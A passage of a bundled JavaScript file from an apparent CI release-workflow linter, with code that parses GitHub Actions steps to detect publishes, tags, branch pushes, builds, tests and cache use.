    npmTooOld,
    deadPublishTrigger,
    tagBeforeTest,
    publishBeforeTest,
    versionComputedTwice,
    scriptInjection,
    buildInPublishJob,
    cacheInPublishJob,
    testGateBypass,
    unpinnedAction,
    pullRequestTargetCheckout,
    releaseWithoutConcurrency,
    releaseCancelInProgress,
    eventFieldMissing,
    phantomVersion,
    releaseTriggerTypes,
    publishNotRerunnable,
    workflowRunUnchecked,
    pypiReusableWorkflow,
    pypiAttestationsOff,
    missingLocalReference,
    invalidYaml,
    ignoreDirective,
];


/***/ }),

/***/ 28314:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $j: () => (/* binding */ pushesBranch),
/* harmony export */   Bs: () => (/* binding */ stepCommands),
/* harmony export */   G$: () => (/* binding */ testsRunBy),
/* harmony export */   SX: () => (/* binding */ tagCreationsOf),
/* harmony export */   U_: () => (/* reexport safe */ _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_1__.U_),
/* harmony export */   VH: () => (/* reexport safe */ _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_0__.VH),
/* harmony export */   WH: () => (/* binding */ stepEnv),
/* harmony export */   XP: () => (/* binding */ commits),
/* harmony export */   ZU: () => (/* binding */ publishesOf),
/* harmony export */   cS: () => (/* binding */ setRepositoryFiles),
/* harmony export */   jj: () => (/* reexport safe */ _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_0__.jj),
/* harmony export */   tG: () => (/* binding */ buildRunBy),
/* harmony export */   w7: () => (/* binding */ cacheOf),
/* harmony export */   zt: () => (/* binding */ versionComputedBy)
/* harmony export */ });
/* unused harmony export actionInputValue */
/* harmony import */ var _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(26833);
/* harmony import */ var _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(95825);
/* harmony import */ var _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(68449);
/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(16915);
/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(27499);
/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(28154);
/* harmony import */ var _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(30444);
// What a step does, as far as releases are concerned: publish (to which registry, with a token or
// through trusted publishing), create a tag or a GitHub Release (with which token), run tests,
// build or install dependencies, restore a cache, compute a date or a version. The knowledge of
// each tool is in @tokenless/release-tools' tables; this file hands them doctor's steps as plain
// text and keeps the step with each finding.




const plainSteps = new WeakMap();
/** The step as the tables read it: its text, its inputs and the env in effect, as strings. */
function plainStep(step) {
    let plain = plainSteps.get(step);
    if (plain === undefined) {
        plain = {
            uses: step.uses,
            run: step.run,
            with: scalars(step.with?.entries() ?? []),
            env: scalars(stepEnv(step).entries()),
            name: step.name,
            id: step.id,
            workingDirectory: workingDirectoryOf(step),
        };
        plainSteps.set(step, plain);
    }
    return plain;
}
/** A `run:` step's own `working-directory`, or its job's or workflow's `defaults.run` one. */
function workingDirectoryOf(step) {
    const own = step.node.get('working-directory')?.str();
    // A composite action's step starts in the workspace unless it says otherwise.
    if (own !== undefined || step.via || step.action)
        return own;
    const defaults = (node) => node?.get('defaults')?.get('run')?.get('working-directory')?.str();
    return defaults(step.job?.node) ?? defaults(step.job?.workflow.node);
}
function scalars(entries) {
    const result = {};
    for (const [name, node] of entries) {
        const text = node.str();
        if (text !== undefined)
            result[name] = text;
    }
    return result;
}
function contextOf(step, scripts, releaseIt = _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_0__/* .RELEASE_IT_DEFAULTS */ .jj, cibuildwheelTests = false, files = filesOfStep(step)) {
    const plain = plainStep(step);
    return (0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_0__/* .stepContext */ .ev)(plain, {
        jobSteps: step.job ? step.job.steps.map(plainStep) : [plain],
        scripts,
        releaseIt,
        cibuildwheelTests,
        files,
    });
}
/** The repository files the scripts of each workflow's steps are read from (set by loadRepository). */
const repositoryFilesOf = new WeakMap();
function setRepositoryFiles(workflowFile, files) {
    repositoryFilesOf.set(workflowFile, files);
}
function filesOfStep(step) {
    const file = step.job?.workflow.file;
    return file === undefined ? undefined : repositoryFilesOf.get(file);
}
/** The commands of a step's script, `npm run x` expanded into the script it names (3 levels). */
function stepCommands(step, scripts) {
    return _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .stepCommands */ .Bs(plainStep(step), scripts, filesOfStep(step));
}
/** The env in effect for a step: workflow, job, step (later wins), each with its node. */
function stepEnv(step) {
    const env = new Map();
    const layers = [step.job?.workflow.env, step.job?.env, step.via?.env, step.env];
    for (const layer of layers)
        for (const [name, value] of layer?.entries() ?? [])
            env.set(name, value);
    return env;
}
/** The publishes a step makes (one step may publish to npm and PyPI). */
function publishesOf(step, scripts, releaseIt = _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_0__/* .RELEASE_IT_DEFAULTS */ .jj) {
    const context = contextOf(step, scripts, releaseIt);
    return _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_3__/* .publishesOf */ .ZU(plainStep(step), context).map((found) => ({ step, ...found }));
}
/** Tags and GitHub Releases a step creates. */
function tagCreationsOf(step, scripts, releaseIt = _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_0__/* .RELEASE_IT_DEFAULTS */ .jj) {
    const context = contextOf(step, scripts, releaseIt);
    return _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_3__/* .tagCreationsOf */ .SX(plainStep(step), context).map((found) => ({ step, ...found }));
}
/** The command or action by which a step runs tests, if it does. */
function testsRunBy(step, scripts, cibuildwheelTests = false) {
    return _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_3__/* .testsRunBy */ .G$(plainStep(step), contextOf(step, scripts, _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_0__/* .RELEASE_IT_DEFAULTS */ .jj, cibuildwheelTests));
}
/** A date or version computed by the step and handed on (output, env, manifest); with what. */
function versionComputedBy(step, scripts) {
    return _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_3__/* .versionComputedBy */ .zt(plainStep(step), contextOf(step, scripts));
}
/** A `git push` of a branch (not only tags) in the step. */
function pushesBranch(step, scripts) {
    return stepCommands(step, scripts).some((command) => {
        const words = command.words;
        if (words[0] !== 'git' || words[1] !== 'push')
            return false;
        if ((0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .has */ .zy)(words, '--follow-tags', '--all', '--mirror'))
            return true;
        if ((0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .has */ .zy)(words, '--tags', '--delete', '-d'))
            return false;
        const refs = (0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .operands */ .bw)(words.slice(2)).slice(1);
        return (refs.length === 0 ||
            refs.some((ref) => !/^(refs\/tags\/|v?\d|v\$|\$\{?\w*(TAG|VERSION)|\$\{\{.*(tag|version))/i.test(ref)));
    });
}
/** A step that commits (so a tag made after it points at a new commit). */
function commits(step, scripts) {
    return stepCommands(step, scripts).some((command) => {
        const words = command.words;
        if (words[0] === 'git' && words[1] === 'commit')
            return true;
        if (words[0] === 'npm' &&
            (0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .pmSubcommand */ .Lt)(words) === 'version' &&
            !(0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .has */ .zy)(words, '--no-git-tag-version', '--git-tag-version=false'))
            return true;
        return false;
    });
}
const BUILD_SCRIPT = /^(build|compile|bundle|prepare|prepack|dist|package)([:_.-].*)?$/i;
/** The command by which a step builds the project or installs its dependencies (or tests it). */
function buildRunBy(step, scripts) {
    const plain = plainStep(step);
    const context = contextOf(step, scripts);
    for (const command of stepCommands(step, scripts)) {
        const words = command.words;
        if (_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_3__/* .isTestCommand */ .oS(command, plain, context))
            return command.text;
        if ((0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .runsPackageManager */ .cr)(words)) {
            const sub = (0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .pmSubcommand */ .Lt)(words);
            // `-g`, or grouped short flags that hold it (`npm i -fg corepack`).
            const global = (0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .has */ .zy)(words, '--global', 'global') || words.some((word) => /^-[a-z]*g[a-z]*$/.test(word));
            const noScripts = (0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .has */ .zy)(words, '--ignore-scripts') || words.some((word) => word === '--mode=skip-build');
            const installs = [
                'install',
                'i',
                'ci',
                'add',
                'clean-install',
                'ic',
                'install-clean',
            ].includes(sub ?? '');
            // A bare `yarn` installs; `yarn --version` only prints.
            const bareYarn = words[0] === 'yarn' && sub === undefined && !(0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .has */ .zy)(words, '--version', '-v', '--help', '-h');
            if (!global && !noScripts && (installs || bareYarn))
                return command.text;
            if (sub === 'pack' || sub === 'rebuild')
                return command.text;
            const script = (0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .scriptName */ .vD)(words);
            if (script !== undefined && BUILD_SCRIPT.test(script))
                return command.text;
            continue;
        }
        const tool = (0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .toolWords */ .yy)(words);
        const [first, second] = tool;
        if (first === 'build' || first === 'tsc' || first === 'setup.py')
            return command.text;
        if (['uv', 'poetry', 'hatch', 'pdm', 'flit', 'maturin', 'cargo', 'go'].includes(first ?? '') &&
            second === 'build')
            return command.text;
        if ((first === 'poetry' || first === 'pdm') && second === 'install')
            return command.text;
        if (first === 'uv' && second === 'sync')
            return command.text;
        if (/^pip3?$/.test(first ?? '') && (second === 'install' || second === 'wheel')) {
            const args = tool.slice(2);
            if (args.some((arg) => arg === '.' ||
                arg.startsWith('./') ||
                arg === '-e' ||
                arg === '--editable' ||
                arg === '-r' ||
                arg.startsWith('--requirement') ||
                arg.startsWith('.[')))
                return command.text;
        }
        if (/^python3?$/.test(first ?? '') && second === 'setup.py')
            return command.text;
        if (first === 'make' && !(0,_tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__/* .has */ .zy)(tool, 'publish', 'release', 'upload'))
            return command.text;
    }
    return undefined;
}
/**
 * An input of a composite action's step as it runs: `${{ }}` that reads only `inputs.*` is
 * evaluated with the `with:` of the step that uses the action (or the inputs' defaults). Text
 * that reads anything else, or an input given as an expression, is returned as written.
 */
function actionInputValue(step, text) {
    if (text === undefined || !step.via || !step.action || !text.includes('${{'))
        return text;
    const paths = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_4__/* .contextReferences */ .Q)(text);
    if (paths.length === 0 || paths.some((path) => !/^inputs\.[\w-]+$/.test(path)))
        return text;
    const inputs = {};
    for (const input of step.action.inputs) {
        const given = step.via.with?.get(input.name)?.str() ?? input.node.get('default')?.str() ?? '';
        inputs[input.name] = given;
    }
    const names = paths.map((path) => path.slice('inputs.'.length));
    if (names.some((name) => inputs[name] === undefined || inputs[name].includes('${{')))
        return text;
    try {
        return (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_5__/* .interpolate */ .GW)(text, { contexts: { inputs } });
    }
    catch {
        return text;
    }
}
/** A cache key that holds `github.run_id`: only a job of this very run can have saved it. */
const RUN_ONLY_KEY = /\$\{\{[^}]*\bgithub\.run_id\b/;
/**
 * A cache restored by the step: actions/cache (unless every key and restore key holds
 * `github.run_id`), or a setup action's `cache:` input.
 */
function cacheOf(step) {
    const name = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_6__/* .actionName */ .aM)(step.uses);
    if (name === 'actions/cache' || name === 'actions/cache/restore') {
        const keys = [
            actionInputValue(step, step.with?.get('key')?.str()) ?? '',
            ...(actionInputValue(step, step.with?.get('restore-keys')?.str()) ?? '')
                .split('\n')
                .filter((line) => line.trim() !== ''),
        ];
        return keys.every((key) => RUN_ONLY_KEY.test(key)) ? undefined : step.usesNode;
    }
    if (/^actions\/setup-(node|python|go|java|dotnet)$/.test(name) || name === 'pnpm/action-setup') {
        const cache = step.with?.get('cache');
        const value = actionInputValue(step, cache?.str())?.trim();
        if (cache && value && value !== 'false' && value !== "''")
            return cache;
    }
    if (name === 'astral-sh/setup-uv') {
        const cache = step.with?.get('enable-cache');
        if (actionInputValue(step, cache?.str())?.trim() === 'true')
            return cache;
    }
    return undefined;
}


/***/ }),

/***/ 26833:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Bs: () => (/* binding */ stepCommands),
/* harmony export */   Lt: () => (/* binding */ pmSubcommand),
/* harmony export */   bw: () => (/* binding */ operands),
/* harmony export */   cr: () => (/* binding */ runsPackageManager),
/* harmony export */   vD: () => (/* binding */ scriptName),
/* harmony export */   yy: () => (/* binding */ toolWords),
/* harmony export */   zy: () => (/* binding */ has)
/* harmony export */ });
/* harmony import */ var _followed_scripts_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(33734);
/* harmony import */ var _package_scripts_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(10722);
/* harmony import */ var _shell_commands_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(59160);
// The commands of a step's `run:` script as the tables read them: split into simple commands,
// `npm run x` expanded into the script it names, and the tool behind a runner (`npx`, `uv run`,
// `pnpm exec`) brought forward.




const TOOL_RUNNERS = [
    ['npx', 1],
    ['pnpx', 1],
    ['bunx', 1],
    ['uvx', 1],
    ['pipx run', 2],
    ['pnpm exec', 2],
    ['pnpm dlx', 2],
    ['yarn dlx', 2],
    ['yarn exec', 2],
    ['yarn node', 2],
    ['npm exec', 2],
    ['uv run', 2],
    ['uv tool run', 3],
    ['poetry run', 2],
    ['pdm run', 2],
    ['python -m', 2],
    ['python3 -m', 2],
    ['py -m', 2],
];
/** The first words of the runners: most commands start with none of them. */
const RUNNER_STARTS = new Set(TOOL_RUNNERS.map(([prefix]) => prefix.split(' ')[0]));
/**
 * The commands of a step's script, `npm run x` expanded into the script it names (3 levels) and,
 * given the repository's files, the repository scripts it runs followed (2 levels).
 */
function stepCommands(step, scripts, files) {
    if (step.run === undefined)
        return [];
    // Many questions are asked of each step (and of each step of its job): split its script once.
    const known = commandsCache.get(step);
    if (known?.scripts === scripts && known.run === step.run && known.files === files)
        return known.commands;
    const start = startFolder(step.workingDirectory);
    const sources = { scripts: start ? scriptsAt(files, start, scripts) : scripts, files, cwd: start };
    const commands = expand((0,_shell_commands_js__WEBPACK_IMPORTED_MODULE_0__/* .commandsIn */ .G)(step.run), sources, undefined, 0);
    commandsCache.set(step, { scripts, files, run: step.run, commands });
    return commands;
}
const commandsCache = new WeakMap();
/**
 * The commands of the repository script `words` runs (or of the release tool's configured
 * publish command), pointing at the calling command.
 */
function followed(command, sources, depth) {
    const { files } = sources;
    if (files === undefined || depth >= 2)
        return [];
    const words = toolWords(command.words);
    const configured = (0,_followed_scripts_js__WEBPACK_IMPORTED_MODULE_1__/* .releaseProfileCommands */ .Df)(words, files, sources.cwd);
    if (configured !== undefined)
        return pointAt(command, expand(configured, sources, command.script, depth + 1));
    const called = (0,_followed_scripts_js__WEBPACK_IMPORTED_MODULE_1__/* .calledScript */ .Xu)(words);
    if (called === undefined)
        return [];
    const path = (0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_2__/* .joinPath */ .uJ)(sources.cwd, called.path);
    const text = files.read(path);
    if (text === undefined)
        return [];
    const inner = expand((0,_followed_scripts_js__WEBPACK_IMPORTED_MODULE_1__/* .scriptCommands */ .q8)({ ...called, path }, text), sources, command.script, depth + 1);
    return pointAt(command, inner);
}
function pointAt(command, inner) {
    return inner.map((each) => ({ ...each, text: command.text }));
}
/** A step's literal `working-directory` as a repository path ('' for the root or an expression). */
function startFolder(dir) {
    if (dir === undefined || dir.includes('${{'))
        return '';
    return folderAfterCd('', dir) ?? '';
}
/** The folder `cd target` leads to from `cwd`; undefined when it cannot be told (`cd "$dir"`). */
function folderAfterCd(cwd, target) {
    if (target === undefined)
        return undefined;
    const inWorkspace = /^\$\{?GITHUB_WORKSPACE\}?(\/|$)/.exec(target);
    const parts = inWorkspace || cwd === '' ? [] : cwd.split('/');
    const rest = inWorkspace ? target.slice(inWorkspace[0].length) : target;
    if (/[$~`*?]/.test(rest) || rest.startsWith('/') || rest === '-')
        return undefined;
    for (const part of rest.split('/')) {
        if (part === '' || part === '.')
            continue;
        // Out of the repository (`cd ..` from the root) is not a folder of it.
        if (part === '..' && parts.pop() === undefined)
            return undefined;
        if (part !== '..')
            parts.push(part);
    }
    return parts.join('/');
}
/** The scripts of the package.json nearest to `dir` (up to the root), as npm finds it. */
function scriptsAt(files, dir, fallback) {
    if (files === undefined)
        return fallback;
    for (let current = dir; current !== ''; current = current.split('/').slice(0, -1).join('/')) {
        const manifest = (0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_2__/* .readManifest */ .WI)(files, current);
        if (manifest)
            return manifest.scripts;
    }
    return (0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_2__/* .readManifest */ .WI)(files, '')?.scripts ?? fallback;
}
function expand(commands, from, script, depth) {
    let sources = from;
    // The folder (and scripts) each enclosing subshell started with: a `cd` inside one ends with it.
    const outer = [];
    const result = [];
    for (const raw of commands) {
        const level = raw.subshell ?? 0;
        while (outer.length < level)
            outer.push(sources);
        if (outer.length > level) {
            sources = outer[level];
            outer.length = level;
        }
        const { scripts } = sources;
        // `pn` is the usual alias of pnpm.
        const command = raw.words[0] === 'pn' ? { ...raw, words: ['pnpm', ...raw.words.slice(1)] } : raw;
        // `cd packages/a && npm run release`: the commands after it run there.
        const into = command.words[0] === 'cd' ? folderAfterCd(sources.cwd, command.words[1]) : undefined;
        if (into !== undefined)
            sources = { ...sources, cwd: into, scripts: scriptsAt(sources.files, into, sources.scripts) };
        result.push({ ...command, script });
        result.push(...followed({ ...command, script }, sources, depth));
        const run = (0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_2__/* .scriptRun */ .dn)(command.words);
        if (run === undefined) {
            // `lerna run release`, `nx run-many -t publish`, `turbo run release` (also `npx nx ...`).
            for (const task of (0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_2__/* .taskRuns */ .Ek)(toolWords(command.words)))
                result.push(...runScript(command, task, sources, script, depth));
            continue;
        }
        const packages = (0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_2__/* .scriptPackages */ .lT)(run, sources.cwd, scripts, sources.files);
        const withScript = packages.filter((each) => each.scripts[run.name] !== undefined);
        // `yarn semantic-release`, `pnpm changeset publish`: no such script, so the package
        // manager runs the dependency's bin of that name.
        if (withScript.length === 0 && command.words[0] !== 'npm' && command.words[0] !== 'nr') {
            const at = command.words.indexOf(run.name, 1);
            const bin = { ...command, words: command.words.slice(at), script };
            result.push(bin, ...followed(bin, sources, depth));
            for (const task of (0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_2__/* .taskRuns */ .Ek)(bin.words))
                result.push(...runScript(command, task, sources, script, depth));
        }
        result.push(...runScript(command, run, sources, script, depth, withScript));
    }
    return result;
}
/** The commands of the script `run` names, in each package it runs in, pointing at `command`. */
function runScript(command, run, sources, script, depth, withScript = (0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_2__/* .scriptPackages */ .lT)(run, sources.cwd, sources.scripts, sources.files).filter((each) => each.scripts[run.name] !== undefined)) {
    const result = [];
    if (depth >= 3)
        return result;
    for (const target of withScript) {
        // npm appends what follows `--` to the end of the script (`npm run release -- --no-npm`).
        const extra = run.task ? [] : scriptArguments(command.words, run.name);
        const body = target.scripts[run.name];
        const full = extra.length > 0 ? `${body} ${extra.map(quoteWord).join(' ')}` : body;
        const inner = { ...sources, scripts: target.scripts, cwd: target.dir };
        result.push(...expand((0,_shell_commands_js__WEBPACK_IMPORTED_MODULE_0__/* .commandsIn */ .G)(full), inner, script ?? run.name, depth + 1).map((each) => ({
            ...each,
            text: command.text,
            ...(command.origin === undefined ? {} : { origin: each.origin ?? command.origin }),
        })));
    }
    return result;
}
/** The words `npm run x -- a b` (npm, bun) or `pnpm x a b` (pnpm, yarn) hands to script x. */
function scriptArguments(words, name) {
    const at = words.indexOf(name, 1);
    if (at < 0)
        return [];
    const after = words.slice(at + 1);
    const dashes = after.indexOf('--');
    if (words[0] === 'npm' || words[0] === 'bun')
        return dashes < 0 ? [] : after.slice(dashes + 1);
    return after[0] === '--' ? after.slice(1) : after;
}
function quoteWord(word) {
    return /^[\w@%+=:,./-]+$/.test(word) ? word : `'${word.replace(/'/g, `'\\''`)}'`;
}
/** `npm run x`, `pnpm x`, `yarn x`: the script name; undefined for anything else. */
function scriptName(words) {
    return (0,_package_scripts_js__WEBPACK_IMPORTED_MODULE_2__/* .scriptRun */ .dn)(words)?.name;
}
/** The words that are not flags (nor flags' values). */
function operands(words) {
    const result = [];
    for (let index = 0; index < words.length; index++) {
        const word = words[index];
        if (word.startsWith('-')) {
            if (_package_scripts_js__WEBPACK_IMPORTED_MODULE_2__/* .FLAGS_WITH_VALUE */ .Ly.has(word))
                index++;
            continue;
        }
        result.push(word);
    }
    return result;
}
/** The words of the tool a runner starts: `npx -y semantic-release@24` gives `semantic-release`. */
function toolWords(words) {
    let current = words;
    for (let pass = 0; pass < 3; pass++) {
        if (!RUNNER_STARTS.has(current[0]))
            break;
        const runner = TOOL_RUNNERS.find(([prefix, count]) => prefix === (count === 1 ? current[0] : current.slice(0, count).join(' ')));
        if (!runner)
            break;
        current = current.slice(runner[1]);
        while (current[0]?.startsWith('-'))
            current = current.slice(1);
    }
    const [first, ...rest] = current;
    if (first === undefined)
        return [];
    const tool = first
        .replace(/^@changesets\/cli(@.*)?$/, 'changeset')
        .replace(/^(@[^/]+\/[^@]+|[^@]+)@.*$/, '$1');
    return [tool, ...rest];
}
/** `npm ci`, `pnpm run build`: the package manager itself, not a tool it starts (`pnpm exec nx`). */
function runsPackageManager(words) {
    return _package_scripts_js__WEBPACK_IMPORTED_MODULE_2__/* .PACKAGE_MANAGERS */ .Ab.has(words[0]) && toolWords(words)[0] === words[0];
}
/**
 * Whether any of the words is one of `flags`. A dry-run flag counts only when the dry run is sure:
 * `--dry-run` with no value or a literal true one (`--dry-run=true`); `--dry-run "$DRY_RUN"`,
 * `--dry-run false` or `--dry-run=${{ inputs.dry }}` may well be a real run.
 */
const has = (words, ...flags) => words.some((word, index) => {
    if (DRY_RUN_FLAG.test(word))
        return flags.includes(word) && !unsureValue(words[index + 1]);
    const at = word.indexOf('=');
    const flag = word.slice(0, at);
    if (at > 0 && DRY_RUN_FLAG.test(flag))
        return flags.includes(flag) && /^(true|1|yes)$/i.test(word.slice(at + 1));
    return flags.includes(word);
});
const DRY_RUN_FLAG = /^--dry-?run$/;
/** A word after `--dry-run` that makes it maybe false: `false`, `0`, a variable, an expression. */
function unsureValue(value) {
    return value !== undefined && (/^(false|0|no)$/i.test(value) || /\$/.test(value));
}
/** `npm ci` gives `ci`: a package manager's subcommand. */
function pmSubcommand(words) {
    return operands(words.slice(1))[0];
}


/***/ }),

/***/ 33734:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Df: () => (/* binding */ releaseProfileCommands),
/* harmony export */   O8: () => (/* binding */ usesOssjsRelease),
/* harmony export */   Xu: () => (/* binding */ calledScript),
/* harmony export */   nK: () => (/* binding */ MAYBE_DRY_RUN),
/* harmony export */   q8: () => (/* binding */ scriptCommands)
/* harmony export */ });
/* harmony import */ var _package_scripts_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(10722);
/* harmony import */ var _shell_commands_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(59160);
// The scripts of the repository a command runs (`./scripts/release.sh`, `bash scripts/x.sh`,
// `node scripts/publish.mjs`, `python scripts/x.py`, `tsx scripts/x.ts`), read for what they do
// for a release: the shell commands of a shell script, and the commands a JavaScript, TypeScript
// or Python script starts (`execa('npm', ['publish'])`, `subprocess.run(['twine', 'upload'])`,
// `` $`npm publish` ``). Nothing is run: the files are only read.


const SHELLS = /^(ba|z|da|k)?sh$/;
const CODE_RUNNERS = new Set([
    'node',
    'tsx',
    'ts-node',
    'ts-node-esm',
    'esno',
    'esr',
    'jiti',
    'vite-node',
    'babel-node',
    'zx',
    'bun',
    'deno',
    'python',
    'python3',
    'py',
]);
const CODE_FILE = /\.(m?[jt]s|c[jt]s|py)$/;
const SHELL_FILE = /\.(sh|bash)$/;
/** Flags of Node.js and the TypeScript runners that take a value (`node --import tsx x.ts`). */
const RUNNER_FLAGS_WITH_VALUE = new Set([
    '--import',
    '-r',
    '--require',
    '--loader',
    '--experimental-loader',
    '--env-file',
    '--tsconfig',
    '--conditions',
    '--title',
]);
/** The repository script a command runs, if it names one by a relative path. */
function calledScript(words) {
    const [first, ...rest] = words;
    if (first === undefined)
        return undefined;
    if (isRelativePath(first)) {
        if (CODE_FILE.test(first))
            return { path: normalise(first), kind: 'code' };
        // `./ship`, `scripts/publish`: an executable without an extension (read by its #! line).
        if (SHELL_FILE.test(first) || /^\.\.?\//.test(first) || !/\.[^/]*$/.test(first))
            return { path: normalise(first), kind: 'shell' };
        return undefined;
    }
    // `deno run x.ts`, `bun run x.ts`.
    const args = (first === 'deno' || first === 'bun') && rest[0] === 'run' ? rest.slice(1) : rest;
    const operand = args.find((word, index) => !word.startsWith('-') &&
        !(CODE_RUNNERS.has(first) && RUNNER_FLAGS_WITH_VALUE.has(args[index - 1] ?? '')));
    if (operand === undefined || !isRelativePath(operand))
        return undefined;
    if (SHELLS.test(first) && !rest.includes('-c'))
        return { path: normalise(operand), kind: 'shell' };
    if (CODE_RUNNERS.has(first) && CODE_FILE.test(operand) && !rest.includes('-m'))
        return { path: normalise(operand), kind: 'code' };
    return undefined;
}
function isRelativePath(word) {
    return ((word.includes('/') || SHELL_FILE.test(word) || CODE_FILE.test(word)) &&
        /^[\w.@+-][\w./@+-]*$/.test(word) &&
        !word.startsWith('/') &&
        !/(^|\/)\.\.(\/|$)/.test(word));
}
function normalise(path) {
    return path.replace(/^(\.\/)+/, '');
}
/** The commands of a followed script, each with `path:line`. */
function scriptCommands(script, text) {
    return script.kind === 'shell' && !CODE_INTERPRETER.test(text)
        ? shellScriptCommands(script.path, text)
        : codeCommands(script.path, text);
}
/** A `#!` line naming Node, Deno, Bun or Python: the file is code, whatever its name. */
const CODE_INTERPRETER = /^#![^\n]*\b(node|deno|bun|tsx|ts-node|zx|python[\d.]*)\b/;
function shellScriptCommands(path, text) {
    const lines = text.split('\n');
    return (0,_shell_commands_js__WEBPACK_IMPORTED_MODULE_0__/* .commandsIn */ .G)(text).map((command) => {
        const head = command.text.split('\n')[0];
        const index = lines.findIndex((line) => line.includes(head));
        return { ...command, origin: `${path}:${index < 0 ? 1 : index + 1}` };
    });
}
const TOOLS = 'npm|pnpm|yarn|bun|npx|twine|git|gh|uv|poetry|hatch|flit|pdm|maturin|changeset';
const QUOTED = /(['"`])((?:\\.|(?!\1)[^\\])*)\1/g;
/** `execa('npm', ['publish', ...])`, `spawn("git", ["tag", v])`, `runIfNotDry('npm', ['publish'])`. */
const TOOL_AND_ARRAY = new RegExp(`(['"\`])(${TOOLS})\\1\\s*,\\s*\\[([^\\]]*)\\]`, 'g');
/** `subprocess.run(['twine', 'upload', ...])`, `[sys.executable, '-m', 'twine', 'upload']`. */
const ARRAY_COMMAND = new RegExp(`\\[\\s*(?:sys\\.executable\\s*,\\s*(['"])-m\\1\\s*,\\s*)?(['"])(${TOOLS})\\2\\s*,([^\\]]*)\\]`, 'g');
/** `execSync('npm publish')`, `` $`npm publish` ``, `os.system("twine upload dist/*")`. */
const STRING_COMMAND = new RegExp(`(?:\\$(?:\\([^()]*\\))?|\\b(?:exec|execSync|execa|execaCommand|execaCommandSync|spawnSync|run|check_call|check_output|call|system|popen|sh|shell|command)\\s*\\(\\s*)(['"\`])((?:${TOOLS})\\s[^'"\`]*)\\1`, 'g');
/**
 * Release libraries called from code: the function that publishes, and the command it amounts to
 * (`releasePublish()` of `nx/release` is `nx release publish`; `publish()` of
 * `@vitejs/release-scripts` runs `pnpm publish`). `default` is the module's default export.
 */
const LIBRARY_CALLS = [
    {
        module: /^nx\/release(\/|$)/,
        calls: { releasePublish: ['nx', 'release', 'publish'], release: ['nx', 'release'] },
    },
    { module: /^@vitejs\/release-scripts$/, calls: { publish: ['pnpm', 'publish'] } },
    { module: /^semantic-release$/, calls: { default: ['semantic-release'] } },
    { module: /^release-it$/, calls: { default: ['release-it'] } },
];
const IMPORT = /^\s*import\s+(?:(\w+)\s*,?\s*)?(?:\{([^}]*)\})?\s*from\s*(['"])([^'"]+)\3|(?:const|let|var)\s+(?:(\w+)|\{([^}]*)\})\s*=\s*(?:await\s+import|require)\(\s*(['"])([^'"]+)\7\s*\)/;
/** Local names of the release library functions a file imports, to the command each amounts to. */
function libraryFunctions(lines) {
    const functions = new Map();
    const joined = lines.join('\n').replace(/\{[^}]*\}/g, (names) => names.replace(/\n/g, ' '));
    for (const line of joined.split('\n')) {
        const match = IMPORT.exec(line);
        if (!match)
            continue;
        const module = match[4] ?? match[8];
        const library = LIBRARY_CALLS.find((each) => each.module.test(module));
        if (library === undefined)
            continue;
        const fallback = match[1] ?? match[5];
        if (fallback !== undefined && library.calls.default)
            functions.set(fallback, library.calls.default);
